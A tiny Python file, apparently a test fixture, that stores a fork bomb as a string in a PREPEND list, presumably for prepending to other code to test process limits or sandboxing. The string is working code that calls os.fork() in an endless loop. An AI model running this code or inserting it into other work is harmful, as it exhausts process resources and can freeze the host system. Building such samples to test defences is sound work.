"""A fork bomb."""
PREPEND = ['''
import os
try:
    while True:
        os.fork()
except OSError as exc:
    print("fork failed", exc)
''']
